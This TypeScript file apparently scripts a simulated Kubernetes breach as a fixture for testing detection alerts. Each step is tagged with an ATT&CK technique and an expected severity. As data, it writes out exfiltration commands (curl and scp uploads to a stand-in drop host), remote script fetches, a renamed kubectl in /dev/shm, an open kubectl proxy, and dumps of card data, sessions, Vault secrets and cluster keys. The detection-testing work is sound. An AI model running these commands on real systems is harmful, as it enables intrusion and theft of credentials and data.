// What the intruder does, and the few ordinary commands that are reported all the same.
import type { Machine, StartOptions } from './machine.ts';
import { MINUTE, SECOND, at } from './time.ts';
import type { Micros } from './time.ts';
import { API_SERVER, DROP, INTRUDER, host } from './world.ts';
import type { ApiRequest, HostName, Process } from './world.ts';

export type Severity = 'low' | 'medium' | 'high' | 'critical';

/** The alert that an event must raise: the severity, then others that are right too. */
interface Expectation {
  readonly action: 'port-forward' | 'proxy' | 'expose' | 'other-network-change';
  readonly severities: readonly [Severity, ...Severity[]];
}

/** One row of the story. */
export interface Step {
  /** 1–7; `null` for what is not the intruder's. */
  readonly number: number | null;
  readonly process: Process;
  readonly what: string;
  readonly technique: string;
  readonly alert: Expectation | undefined;
}

export type Machines = Readonly<Record<HostName, Machine>>;

/** Plays the seven steps on the machines and tells what was done. `tomcat` is the web server's Java process. */
export function attack(machines: Machines, tomcat: Process): readonly Step[] {
  const steps: Step[] = [];
  const tell = (
    number: number | null,
    process: Process,
    technique: string,
    what: string,
    alert?: Expectation,
  ): Process => {
    steps.push({ number, process, technique, what, alert });
    return process;
  };
  onTheJumpHost(machines['ops-1'], tell);
  onTheBuildHost(machines['build-1'], tell);
  onTheWorkstation(machines['dev-1'], tell);
  inTheWebServer(machines['web-1'], tomcat, tell);
  onTheReportingHost(machines['data-1'], tell);
  onTheAdminHost(machines['admin-1'], tell);
  return steps.sort((a, b) => a.process.start - b.process.start);
}

type Tell = (number: number | null, process: Process, technique: string, what: string, alert?: Expectation) => Process;

const expect = (action: Expectation['action'], ...severities: Expectation['severities']): Expectation => ({
  action,
  severities,
});

/** Steps 1, 2, 6 and 7: in with a stolen key, a tunnel to the database, a dump of it. */
function onTheJumpHost(machine: Machine, tell: Tell): void {
  const shell = tell(
    1,
    machine.login(at('01:47:12'), 'alice', INTRUDER),
    'T1078, T1021.004',
    `ssh login as \`alice\` with a stolen key from ${INTRUDER}`,
  );
  for (const [clock, line] of [
    ['01:47:31', 'id'],
    ['01:47:38', 'uname -a'],
    ['01:47:55', 'cat /home/alice/.kube/config'],
    ['01:48:20', 'kubectl config get-contexts'],
    ['01:49:02', 'kubectl get services -A'],
    ['01:49:40', 'kubectl -n payments get pods -o wide'],
  ] as const)
    machine.run(at(clock), shell, line);
  tell(
    1,
    machine.run(at('01:50:10'), shell, 'kubectl auth can-i --list -n payments'),
    'T1613',
    'asks what the account may do in the cluster',
  );

  const forward = tunnel(
    machine,
    '01:58:31.2',
    shell,
    'kubectl -n payments port-forward svc/postgres 5432',
    '127.0.0.1',
    5432,
    26 * MINUTE,
  );
  tell(
    2,
    forward,
    'T1572',
    'forwards the payments database to the jump host, from bash, with one port and no colon',
    expect('port-forward', 'high', 'medium'),
  );
  tell(
    6,
    typed(machine, '02:00:02', shell, "psql -h 127.0.0.1 -p 5432 -U report -d payments -c '\\dt+'"),
    'T1213.006',
    'lists the tables through the tunnel',
  );
  const wide = tunnel(
    machine,
    '02:01:05.7',
    shell,
    'kubectl port-forward --address 0.0.0.0 -n payments svc/postgres 15432:5432',
    '0.0.0.0',
    15432,
    23 * MINUTE,
  );
  tell(2, wide, 'T1572, T1090.001', 'forwards it again, open to the whole network', expect('port-forward', 'high'));

  typed(machine, '02:02:58', shell, 'mkdir -p /var/tmp/.d');
  const stage = typed(
    machine,
    '02:03:10',
    shell,
    'pg_dump -h 127.0.0.1 -p 5432 -U report -t cards -f /var/tmp/.d/cards.sql payments',
    70 * SECOND,
  );
  machine.file(at('02:03:11'), stage, '/var/tmp/.d/cards.sql');
  tell(6, stage, 'T1213.006, T1005', 'dumps a table through the tunnel');
  const pack = typed(machine, '02:05:02', shell, 'tar czf /var/tmp/.d/c.tgz -C /var/tmp/.d cards.sql', 8 * SECOND);
  machine.file(at('02:05:03'), pack, '/var/tmp/.d/c.tgz');
  tell(7, pack, 'T1560.001', 'packs the dump');
  const upload = typed(machine, '02:06:15', shell, `curl -sk -T /var/tmp/.d/c.tgz https://${DROP}/u/`, 41 * SECOND);
  machine.connect(at('02:06:15.3'), upload, DROP, 443);
  tell(7, upload, 'T1048.002', `uploads it to ${DROP}`);
  const away = typed(machine, '02:13:58', shell, 'ssh deploy@build-1', 3 * 60 * MINUTE);
  machine.connect(at('02:13:58.2'), away, host('build-1').ip, 22);

  const secrets = machine.run(at('02:19:20'), shell, 'curl -s http://build-1:8001/api/v1/namespaces/payments/secrets', {
    lasts: SECOND,
    api: [proxied('payments', 'secrets')],
  });
  machine.connect(at('02:19:20.1'), secrets, host('build-1').ip, 8001);
  tell(
    6,
    secrets,
    'T1552.007',
    'reads secrets from another machine, through the proxy on `build-1`, without a password',
  );
  machine.exit(at('05:02:00'), shell);

  const onCall = machine.login(at('04:17:30'), 'alice', '10.20.0.90');
  machine.run(at('04:18:01'), onCall, 'kubectl -n staging get pods');
  const own = tunnel(
    machine,
    '04:18:40',
    onCall,
    'kubectl -n staging port-forward svc/web 8080:80',
    '127.0.0.1',
    8080,
    6 * MINUTE,
  );
  tell(
    null,
    own,
    '–',
    'the real alice, on call, looks at a staging service: an ordinary forward from a shell is reported as low, for a person to see',
    expect('port-forward', 'low'),
  );
  machine.exit(at('04:26:00'), onCall);
}

/** Step 3: a script in /var/tmp opens the API server to the network. */
function onTheBuildHost(machine: Machine, tell: Tell): void {
  const shell = tell(1, machine.login(at('02:14:03'), 'deploy', host('ops-1').ip), 'T1021.004', 'moves on by ssh');
  const fetch = typed(machine, '02:15:20', shell, `curl -s -o /var/tmp/sync.sh http://${DROP}/sync.sh`);
  machine.connect(at('02:15:20.2'), fetch, DROP, 80);
  machine.file(at('02:15:20.6'), fetch, '/var/tmp/sync.sh');
  tell(3, fetch, 'T1105', 'fetches a script');
  typed(machine, '02:15:33', shell, 'chmod +x /var/tmp/sync.sh');
  const script = machine.script(at('02:16:02'), shell, '/bin/bash', '/var/tmp/sync.sh', [], { lasts: 150 * MINUTE });
  machine.run(at('02:16:02.1'), script, 'sleep 2', { lasts: 2 * SECOND });
  const open = tunnel(
    machine,
    '02:16:04.3',
    script,
    'kubectl proxy --port=8001 --address=0.0.0.0 --accept-hosts=.*',
    '0.0.0.0',
    8001,
    145 * MINUTE,
  );
  tell(
    3,
    open,
    'T1090.001, T1059.004',
    'a script in /var/tmp opens the API server to the network, with the account of `deploy`',
    expect('proxy', 'critical'),
  );
  const local = tunnel(machine, '02:24:41', shell, 'kubectl proxy --port=8009', '127.0.0.1', 8009, 20 * MINUTE);
  tell(5, local, 'T1090.001', 'the same from bash, on loopback', expect('proxy', 'low'));
  machine.exit(at('02:46:00'), shell);
}

/** Step 4: a workload gets an address on the Internet. */
function onTheWorkstation(machine: Machine, tell: Tell): void {
  const shell = tell(1, machine.login(at('02:40:30'), 'bob', host('ops-1').ip), 'T1021.004', 'moves on by ssh');
  machine.run(at('02:41:12'), shell, 'kubectl -n payments get deployments');
  const balancer = kubectl(
    machine,
    '02:43:09',
    shell,
    'kubectl -n payments expose deployment reports-api --type=LoadBalancer --port=443 --target-port=8443 --name=reports-ext',
  );
  tell(4, balancer, 'T1133', 'gives the payments reports a public address, from bash', expect('expose', 'high'));
  machine.run(at('02:44:00'), shell, 'kubectl -n payments get service reports-ext');
  const script = machine.script(at('02:47:20'), shell, '/bin/bash', '/tmp/pub.sh', [], { lasts: 3 * SECOND });
  const nodePort = kubectl(
    machine,
    '02:47:20.8',
    script,
    'kubectl -n payments expose deployment ledger --type=NodePort --port=8080',
  );
  tell(
    5,
    nodePort,
    'T1133, T1059.004',
    'a script in /tmp opens another workload on every node',
    expect('expose', 'critical'),
  );
  machine.exit(at('02:55:00'), shell);
}

/** Step 5 with a renamed kubectl, from a web shell; and with one that kept its name, in /tmp. */
function inTheWebServer(machine: Machine, tomcat: Process, tell: Tell): void {
  const shell = (clock: string, command: string): Process => {
    const helper = machine.start(
      at(clock),
      tomcat,
      ['/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper', '17.0.14:12:15'],
      { stays: true },
    );
    return machine.become(at(clock) + 8_000, helper, ['/bin/sh', '-c', command], { lasts: 40 * MINUTE });
  };
  tell(
    1,
    machine.run(at('03:05:10.1'), shell('03:05:10', 'id; uname -a'), 'id'),
    'T1190, T1505.003',
    'a request to the web shop runs commands as `tomcat`',
  );
  const fetch = machine.run(
    at('03:06:42.1'),
    shell('03:06:42', `curl -s -o /dev/shm/.k http://${DROP}/k`),
    `curl -s -o /dev/shm/.k http://${DROP}/k`,
  );
  machine.connect(at('03:06:42.3'), fetch, DROP, 80);
  machine.run(
    at('03:06:55.1'),
    shell('03:06:55', 'chmod 755 /dev/shm/.k /dev/shm/.u'),
    'chmod 755 /dev/shm/.k /dev/shm/.u',
  );
  tell(5, fetch, 'T1105', 'fetches a kubectl under another name into shared memory');
  const script = machine.script(at('03:08:30.1'), shell('03:08:30', '/dev/shm/.u'), '/bin/sh', '/dev/shm/.u', [], {
    cwd: '/opt/tomcat',
    lasts: 39 * MINUTE,
  });
  const renamed = tunnel(
    machine,
    '03:08:30.4',
    script,
    '/dev/shm/.k --kubeconfig /dev/shm/.c -n payments port-forward --address 0.0.0.0 svc/redis 6379:6379',
    '0.0.0.0',
    6379,
    38 * MINUTE,
    { executable: '/dev/shm/.k' },
  );
  tell(
    5,
    renamed,
    'T1036.003, T1572',
    'a renamed kubectl in /dev/shm forwards the session store',
    expect('port-forward', 'critical'),
  );
  const keys = machine.run(
    at('03:10:44.1'),
    shell('03:10:44', "redis-cli -h 127.0.0.1 --scan --pattern 'session:*'"),
    "redis-cli -h 127.0.0.1 --scan --pattern 'session:*'",
    { lasts: 4 * SECOND },
  );
  tell(6, keys, 'T1213.006', 'lists sessions through the tunnel');
  const send = machine.run(
    at('03:12:09.1'),
    shell('03:12:09', `curl -s -F f=@/dev/shm/.s http://${DROP}/u`),
    `curl -s -F f=@/dev/shm/.s http://${DROP}/u`,
    { lasts: 5 * SECOND },
  );
  machine.connect(at('03:12:09.3'), send, DROP, 80);
  tell(7, send, 'T1048.003', 'uploads them');

  const login = machine.login(at('03:15:00'), 'deploy', host('ops-1').ip);
  machine.run(at('03:15:40'), login, 'cp /usr/local/bin/kubectl /tmp/kubectl');
  const moved = tunnel(
    machine,
    '03:16:12',
    login,
    '/tmp/kubectl -n shop port-forward deploy/web 8088:8080',
    '127.0.0.1',
    8088,
    10 * MINUTE,
    { executable: '/tmp/kubectl' },
  );
  tell(5, moved, 'T1572', 'the same from bash, with a kubectl in /tmp', expect('port-forward', 'medium'));
  machine.exit(at('03:27:00'), login);
}

/** Steps 5, 6 and 7 against the secret store. */
function onTheReportingHost(machine: Machine, tell: Tell): void {
  const shell = tell(1, machine.login(at('03:20:05'), 'deploy', host('ops-1').ip), 'T1021.004', 'moves on by ssh');
  const script = machine.script(at('03:21:30'), shell, '/bin/bash', '/tmp/fwd.sh', ['vault'], { lasts: 18 * MINUTE });
  const vault = tunnel(
    machine,
    '03:21:30.4',
    script,
    'kubectl -n vault port-forward pod/vault-0 8200:8200',
    '127.0.0.1',
    8200,
    17 * MINUTE,
  );
  tell(5, vault, 'T1572, T1059.004', 'a script in /tmp forwards the secret store', expect('port-forward', 'critical'));
  const read = typed(
    machine,
    '03:23:02',
    shell,
    'curl -s -o /var/tmp/v.json http://127.0.0.1:8200/v1/secret/data/payments',
  );
  machine.file(at('03:23:02.1'), read, '/var/tmp/v.json');
  tell(6, read, 'T1552', 'reads a secret through the tunnel');
  const api = tunnel(
    machine,
    '03:25:18',
    shell,
    'kubectl -n payments port-forward svc/reports-api 8443:443',
    '127.0.0.1',
    8443,
    9 * MINUTE,
  );
  tell(5, api, 'T1572', 'the same from bash, to an ordinary service', expect('port-forward', 'low'));
  const export_ = typed(machine, '03:26:40', shell, 'curl -sk -o /var/tmp/r.csv https://127.0.0.1:8443/export?all=1');
  machine.file(at('03:26:40.2'), export_, '/var/tmp/r.csv');
  tell(6, export_, 'T1213', 'exports reports through the tunnel');
  const pack = typed(machine, '03:28:05', shell, 'tar czf /var/tmp/v.tgz /var/tmp/v.json /var/tmp/r.csv');
  machine.file(at('03:28:05.2'), pack, '/var/tmp/v.tgz');
  const copy = typed(machine, '03:28:50', shell, `scp -q -i /var/tmp/.i /var/tmp/v.tgz drop@${DROP}:in/`, 20 * SECOND);
  machine.connect(at('03:28:50.4'), copy, DROP, 22);
  tell(7, copy, 'T1560.001, T1048.002', 'packs both and copies them out with scp');
  machine.exit(at('03:40:00'), shell);
}

/** Steps 4 to 7 once more, from Python and through the API server itself. */
function onTheAdminHost(machine: Machine, tell: Tell): void {
  const shell = tell(1, machine.login(at('03:47:00'), 'alice', host('ops-1').ip), 'T1021.004', 'moves on by ssh');
  const python = machine.run(at('03:48:20'), shell, 'python3 /var/tmp/.svc/run.py', { lasts: 5 * SECOND });
  const exposed = kubectl(
    machine,
    '03:48:21',
    python,
    'kubectl -n ops expose pod admin-console --type=NodePort --port=80 --name=status',
  );
  tell(
    4,
    exposed,
    'T1133, T1059.006',
    'a Python script in a hidden directory of /var/tmp opens an administration console on every node',
    expect('expose', 'critical'),
  );
  const script = machine.script(at('03:50:02'), shell, '/bin/sh', '/var/tmp/p.sh', [], { lasts: 12 * MINUTE });
  const quiet = tunnel(machine, '03:50:02.6', script, 'kubectl proxy --port=8099', '127.0.0.1', 8099, 11 * MINUTE);
  tell(5, quiet, 'T1090.001, T1059.004', 'a script in /var/tmp starts a proxy, on loopback', expect('proxy', 'medium'));
  const pods = machine.run(at('03:51:30'), shell, 'curl -s http://127.0.0.1:8099/api/v1/pods', {
    lasts: SECOND,
    api: [{ ...proxied('', 'pods'), username: 'alice@example.com', sourceIPs: ['127.0.0.1', machine.host.ip] }],
  });
  machine.connect(at('03:51:30.1'), pods, '127.0.0.1', 8099);
  tell(6, pods, 'T1613', 'lists all pods through it');
  const raw = kubectl(
    machine,
    '03:53:10',
    shell,
    'kubectl get --raw /api/v1/namespaces/payments/services/https:reports-api:443/proxy/export',
  );
  tell(
    6,
    raw,
    'T1090.001',
    'reaches the reports through the API server, with no listener at all',
    expect('other-network-change', 'medium', 'low', 'high'),
  );
  const pack = typed(machine, '03:55:00', shell, 'tar czf /var/tmp/.svc/k.tgz /etc/kubernetes/pki');
  machine.file(at('03:55:00.3'), pack, '/var/tmp/.svc/k.tgz');
  const upload = typed(
    machine,
    '03:55:40',
    shell,
    `curl -s -F file=@/var/tmp/.svc/k.tgz https://${DROP}/u`,
    8 * SECOND,
  );
  machine.connect(at('03:55:40.3'), upload, DROP, 443);
  tell(7, upload, 'T1560.001, T1048.002', "packs the cluster's keys and uploads them");
  machine.exit(at('04:03:00'), shell);
}

function typed(machine: Machine, clock: string, shell: Process, line: string, lasts: Micros = SECOND): Process {
  return machine.run(at(clock), shell, line, { lasts });
}

function kubectl(machine: Machine, clock: string, parent: Process, line: string): Process {
  const process = machine.run(at(clock), parent, line, { lasts: SECOND });
  machine.connect(at(clock) + 70_000, process, API_SERVER, 6443);
  return process;
}

/** A command that listens until it is stopped. */
function tunnel(
  machine: Machine,
  clock: string,
  parent: Process,
  line: string,
  ip: string,
  port: number,
  lasts: Micros,
  options: StartOptions = {},
): Process {
  const process = machine.run(at(clock), parent, line, { ...options, lasts });
  machine.connect(at(clock) + 60_000, process, API_SERVER, 6443);
  machine.listen(at(clock) + 240_000, process, ip, port);
  return process;
}

/** A read by curl behind the proxy on `build-1`, as the API server sees it. */
function proxied(namespace: string, resource: string): ApiRequest {
  const uri = namespace === '' ? `/api/v1/${resource}` : `/api/v1/namespaces/${namespace}/${resource}`;
  return {
    verb: 'list',
    resource,
    uri,
    code: 200,
    userAgent: 'curl/7.88.1',
    username: 'system:serviceaccount:ops:deploy',
    sourceIPs: [host('ops-1').ip, host('build-1').ip],
    ...(namespace === '' ? {} : { namespace }),
  };
}
